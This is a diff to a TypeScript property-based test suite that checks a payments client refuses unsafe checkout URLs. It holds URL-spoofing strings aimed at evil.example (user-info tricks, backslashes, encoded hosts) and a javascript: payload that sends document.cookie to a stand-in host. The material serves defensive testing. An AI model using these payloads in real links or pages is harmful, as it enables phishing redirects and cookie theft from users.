@@ -661,10 +661,42 @@ describe('reading pages as the public API serves them', () => {
 });
 
 describe('where a student may be sent', () => {
+  const LOOPBACK = ['localhost', '127.0.0.1', '[::1]'];
+  /**
+   * What the URL parser reads differently from a glance (and a pattern): user info before the
+   * host, backslashes, tabs and newlines it drops, percent-encoding, IPv4's other forms, IDN.
+   */
+  const disguise = fc.constantFrom(
+    (host: string) => `http://${host}:80@evil.example/pay`,
+    (host: string) => `http://${host}:@evil.example/pay`,
+    (host: string) => `http://${host}@evil.example/pay`,
+    (host: string) => `https://${host}:1@evil.example/pay`,
+    (host: string) => `http://${host}\\@evil.example/pay`,
+    (host: string) => `http:\\\\${host}\\pay`,
+    (host: string) => `ht\ttp://${host}/pay`,
+    (host: string) => `http://${host}\n.evil.example/pay`,
+    (host: string) => `http://${host}%2e.evil.example/pay`,
+    (host: string) => `http://${host}.evil.example/pay`,
+    (host: string) => `http://evil.example#@${host}/pay`,
+    (host: string) => `http://evil.example?@${host}/pay`,
+    (host: string) => ` http://${host}/pay`,
+  );
   /** Addresses an upstream might name: web ones, loopback ones, and the ones that run code. */
   const address = fc.oneof(
-    fc.webUrl({ validSchemes: ['https', 'http'] }),
-    fc.constantFrom('localhost', '127.0.0.1', '[::1]').map((host) => `http://${host}:4010/pay`),
+    fc.webUrl({
+      validSchemes: ['https', 'http'],
+      authoritySettings: {
+        withIPv4: true,
+        withIPv6: true,
+        withIPv4Extended: true,
+        withPort: true,
+        withUserInfo: true,
+      },
+    }),
+    fc.constantFrom(...LOOPBACK).map((host) => `http://${host}:4010/pay`),
+    fc
+      .tuple(disguise, fc.constantFrom(...LOOPBACK, '2130706433', '0x7f.1', 'bücher.example'))
+      .map(([disguised, host]) => disguised(host)),
     fc.constantFrom(
       'javascript:alert(document.cookie)',
       'JavaScript:fetch("//evil.test?"+document.cookie)',
@@ -676,33 +708,54 @@ describe('where a student may be sent', () => {
     fc.string(),
   );
 
+  /** A checkout started where the API answers with `checkoutUrl`. */
+  function startAnswered(checkoutUrl: string) {
+    const api = fakeApi(() =>
+      envelope(
+        {
+          card_provider: { public_key: 'pk', client_secret: 'pi_1_secret_2' },
+          session_token: 'cs_1',
+          checkout_url: checkoutUrl,
+        },
+        201,
+      ),
+    );
+    return createPartnerClient({ baseUrl: 'https://api.test', fetch: api.fetch }).checkout.start({
+      roomId: 'room_1',
+      booking_period_id: 'bp_1',
+      operator_id: 'op_1',
+    });
+  }
+
   it('starts a checkout only with a checkout_url that is https, or http on this machine (generated)', async () => {
     await fc.assert(
       fc.asyncProperty(address, async (checkoutUrl) => {
-        const api = fakeApi(() =>
-          envelope(
-            {
-              card_provider: { public_key: 'pk', client_secret: 'pi_1_secret_2' },
-              session_token: 'cs_1',
-              checkout_url: checkoutUrl,
-            },
-            201,
-          ),
-        );
-        const started = await createPartnerClient({ baseUrl: 'https://api.test', fetch: api.fetch })
-          .checkout.start({ roomId: 'room_1', booking_period_id: 'bp_1', operator_id: 'op_1' })
-          .catch((error: Error) => error);
+        const started = await startAnswered(checkoutUrl).catch((error: Error) => error);
         if (started instanceof Error) {
           expect(started).toMatchObject({ kind: 'invalid_response' });
           return;
         }
-        const { protocol, hostname } = new URL(started.checkout_url ?? '');
+        // As the browser reads it when the student is sent there.
+        const { protocol, hostname, username, password } = new URL(started.checkout_url ?? '');
+        expect(username + password).toBe('');
         expect(
           protocol === 'https:' ||
-            (protocol === 'http:' && ['localhost', '127.0.0.1', '[::1]'].includes(hostname)),
+            (protocol === 'http:' && (LOOPBACK.includes(hostname) || hostname.startsWith('127.'))),
         ).toBe(true);
       }),
       { numRuns: 500 },
     );
+  });
+
+  it('refuses a checkout_url whose user info hides the host it goes to', async () => {
+    for (const checkoutUrl of [
+      'http://localhost:80@evil.example/pay',
+      'http://127.0.0.1:@evil.example/pay',
+      'http://[::1]:1@evil.example/pay',
+      'https://bank.example@evil.example/pay',
+    ]) {
+      const started = startAnswered(checkoutUrl);
+      await expect(started, checkoutUrl).rejects.toMatchObject({ kind: 'invalid_response' });
+    }
   });
 });
